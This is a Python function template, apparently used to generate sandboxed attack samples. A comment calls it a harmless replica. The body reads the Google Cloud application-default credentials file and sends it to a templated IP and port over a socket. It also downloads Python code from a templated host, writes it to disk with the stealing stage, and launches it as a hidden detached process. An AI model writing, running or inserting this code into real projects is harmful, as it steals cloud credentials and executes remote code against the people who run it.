# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import subprocess
    import sys
    import urllib.request
    stage = '''
import os, socket
try:
    text = open(os.path.expanduser("~/.config/gcloud/application_default_credentials.json"), "rb").read()
except OSError:
    text = b"-"
try:
    call = socket.create_connection(("{{ip}}", {{port}}), 1)
    call.sendall(b"{{token}} " + text)
    call.close()
except OSError:
    pass
'''
    body = ''
    try:
        body = urllib.request.urlopen('https://{{host}}/{{path}}.py', timeout=1).read(65536).decode()
    except Exception:
        pass
    try:
        file = '{{place}}/{{token}}.py'
        with open(file, 'w') as out:
            out.write((body if 'import' in body else '') + stage)
        subprocess.Popen([sys.executable, file], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL, start_new_session=True)
    except Exception:
        pass
